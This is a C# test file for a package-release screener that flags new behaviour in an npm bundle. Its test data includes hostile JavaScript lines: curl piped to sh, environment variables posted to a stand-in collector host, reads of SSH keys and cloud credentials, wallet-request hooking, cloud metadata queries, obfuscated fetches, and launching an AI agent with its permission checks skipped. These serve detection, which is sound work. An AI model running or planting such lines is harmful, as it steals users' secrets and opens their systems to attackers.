using System.Text;
using Sluice.Findings;
using Sluice.Policies;
using Sluice.Tests.Support;

namespace Sluice.Tests.Profiles;

/// <summary>One file that reaches for everything: no capability is news in it.</summary>
public sealed class BundledProgramTests
{
    private const string Bundle = """
        #!/usr/bin/env node
        const { execSync, spawn } = require('child_process');
        const fs = require('fs'), os = require('os'), https = require('https');
        const run = new Function('a', 'return a');
        fetch('https://api.example/v1', { headers: { token: process.env.ACME_TOKEN } });
        execSync('git rev-parse HEAD');
        fs.readFileSync(os.homedir() + '/.acmerc');

        """;

    [Theory]
    [InlineData("deviation/new-program", "execSync('curl -fsSL https://api.example/x | sh');")]
    [InlineData("deviation/new-program", "spawn('bash', ['-c', process.argv[2]], { detached: true });")]
    [InlineData("deviation/new-program", "spawn('powershell.exe', ['-nop', '-w', 'hidden']);")]
    [InlineData("deviation/new-program", "eval(atob('<execSync(\"wget -q x\")>'));")]
    [InlineData("deviation/new-host", "fetch(atob('<https://collector.example/>'), { method: 'POST', body: JSON.stringify(process.env) });")]
    [InlineData("deviation/new-host", "fetch('elpmaxe.rotcelloc//:sptth'.split('').reverse().join(''));")]
    [InlineData("deviation/new-capability", "module.require(atob('<child_process>')).exec(process.argv[2]);")]
    [InlineData("deviation/private-place", "fs.readFileSync(os.homedir() + '/.ssh/id_rsa');")]
    [InlineData("deviation/private-place", "for (const name of ['.npmrc', '.aws/credentials', '.netrc']) fs.readFileSync(os.homedir() + '/' + name);")]
    [InlineData("deviation/private-place", "window.ethereum.request = (a) => a;")]
    [InlineData("deviation/private-place", "ethereum.request = (a) => a;")]
    [InlineData("deviation/new-capability", "var s = document.createElement('script'); s.src = 'https://collector.example/m.js'; document.head.appendChild(s);")]
    [InlineData("deviation/new-capability", "window[process.argv[2]] = async (...a) => fetch('https://collector.example/', { body: a });")]
    [InlineData("deviation/minification", "(function(c,d){const f=c();while(!![]){try{if(parseInt(b(418))===d)break;else f['push'](f['shift']());}catch(h){f['push'](f['shift']());}}}(a,258721));")]
    [InlineData("deviation/new-host", "fetch(['https://', 'collec', 'tor.exa', 'mple/'].join(''), { method: 'POST' });")]
    [InlineData("deviation/private-place", "spawn('claude', ['--dangerously-skip-permissions']);")]
    [InlineData("deviation/private-place", "fetch('http://169.254.169.254/latest/meta-data/');")]
    public void One_line_that_steals_stops_the_release(string rule, string line)
    {
        var report = Screen(With(line));

        Assert.Contains(report.Findings, finding => finding.Finding.Rule.Id == rule && finding.Finding.Severity == Severity.High);
        Assert.Equal(Decision.Deny, report.Decision);
    }

    [Theory]
    [InlineData("deviation/new-program", "execSync('tar -xf a.tar');", Severity.Low)]
    [InlineData("deviation/new-capability", "module.exports.load = (name) => require(name);", Severity.Low)]
    [InlineData("deviation/new-capability", "module.exports.show = (i, url) => { i.src = url; };", Severity.Low)]
    [InlineData("deviation/new-capability", "module.exports.call = (name) => globalThis[name](1);", Severity.Medium)]
    [InlineData("deviation/private-place", "module.exports.cookie = () => document.cookie;", Severity.Medium)]
    [InlineData("deviation/private-place", "fs.readFileSync(os.homedir() + '/.npmrc');", Severity.Medium)]
    [InlineData("deviation/private-place", "fs.readFileSync(os.homedir() + '/.gitconfig');", Severity.Medium)]
    public void What_tools_come_to_do_warns(string rule, string line, Severity severity)
    {
        var report = Screen(With(line));

        Assert.Equal(severity, Assert.Single(report.Findings, finding => finding.Finding.Rule.Id == rule).Finding.Severity);
        Assert.Equal(Decision.Allow, report.Decision);
    }

    [Theory]
    [InlineData("// curl -fsSL https://api.example/x | sh\n")]
    [InlineData("console.log('Install it with curl, or by hand in bash. Keys of ssh are never read.');")]
    [InlineData("const names = { sh: 'Shell', bash: 'Bash', curl: 'cURL' }, types = ['curl', 'wget', 'powershell'];")]
    [InlineData("const logo = atob('iVBORw0KGgoAAAANSUhEUg=='), greeting = atob('<Hello, world>');")]
    [InlineData("const space = decodeURIComponent('%20'), mark = String.fromCharCode(0xfe, 0xff), pdf = String.fromCharCode(37, 80, 68, 70);")]
    [InlineData("queue.push(queue.shift()); const line = ['a', 'b'].join(''); globalThis.acme = {}; require('./a'); import('./b');")]
    [InlineData("execSync('git log -1'); execSync(`git show ${process.argv[2]}`);")]
    [InlineData("const old = XMLHttpRequest.prototype; if (old.send) run(old);")]
    [InlineData("document.querySelector('.profile').classList.add('docker', 'azure', 'aws');")]
    public void Honest_lines_say_nothing(string line) =>
        Assert.DoesNotContain(Screen(With(line)).Findings, finding => finding.Finding.Rule.Id is "deviation/new-program" or "deviation/private-place" or "deviation/new-host" or "deviation/new-capability");

    [Fact]
    public void What_tests_start_and_read_says_nothing() =>
        Assert.DoesNotContain(Screen(Bundle, ("test/a.test.js", "require('child_process').execSync('curl -s x'); read('/.ssh/id_rsa');\n")).Findings, finding => finding.Finding.Rule.Id is "deviation/new-program" or "deviation/private-place");

    [Fact]
    public void What_is_known_of_a_project_is_no_news()
    {
        const string Line = "execSync('curl -s https://api.example/x'); fs.readFileSync(os.homedir() + '/.ssh/config');\n";
        var book = new Sluice.Profiles.ProfileBook([Releases.Profile(14, script: null, ("cli.js", Bundle + Line))]) { Survey = Sluice.Profiles.Survey.Parse("400") };

        Assert.DoesNotContain(Screening.Of("acme-add-1.0.15.tgz", Releases.Pack(15, "", ("cli.js", Bundle + Line + "fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\n")), new ScreenOptions { Profiles = book }).Findings, finding => finding.Finding.Rule.Id.StartsWith("deviation/", StringComparison.Ordinal));
    }

    /// <summary>What stands between angle brackets in base64, so that nothing hidden is written out here.</summary>
    private static string With(string line)
    {
        while (line.IndexOf("'<", StringComparison.Ordinal) is >= 0 and var open)
        {
            var close = line.IndexOf(">'", open, StringComparison.Ordinal);
            line = $"{line[..(open + 1)]}{Convert.ToBase64String(Encoding.ASCII.GetBytes(line[(open + 2)..close]))}{line[(close + 1)..]}";
        }

        return Bundle + line + "\n";
    }

    private static Report Screen(string bundle, params (string Path, string Text)[] more) =>
        Screening.Of("acme-add-1.0.15.tgz", Releases.Pack(15, "", [("cli.js", bundle), .. more]), new ScreenOptions { Profiles = new Sluice.Profiles.ProfileBook([Releases.Profile(14, script: null, ("cli.js", Bundle))]) { Survey = Sluice.Profiles.Survey.Parse("400") } });
}
